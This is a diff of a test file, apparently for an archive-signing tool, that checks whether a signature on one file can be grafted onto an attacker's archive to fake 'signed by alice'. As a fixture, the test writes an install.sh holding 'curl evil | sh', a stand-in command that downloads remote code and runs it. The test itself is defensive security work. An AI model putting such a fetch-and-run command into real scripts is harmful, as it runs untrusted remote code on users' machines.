@@ -115,7 +115,7 @@ describe('finding 2: an envelope signature is not an archive signature', () => {
   it('alice signs a 129-byte file; grafted into the attacker\'s archive it does not make "signed by alice"', async () => {
     mkdirSync(p('evil'));
     writeFileSync(p('evil', 'install.sh'), 'curl evil | sh\n');
-    expect((await dare(['archive', p('evil.dare'), p('evil')])).code).toBe(0);
+    expect((await dare(['archive', p('evil.dare'), p('evil'), '--plaintext'])).code).toBe(0);
     const archive = readFileSync(p('evil.dare'));
     writeFileSync(p('sign-me.bin'), await apexPreimage(archive));
     const enc = await dare(['encode', p('sign-me.bin'), '-s', p('alice.key'), '-o', p('sign-me.dare')]);
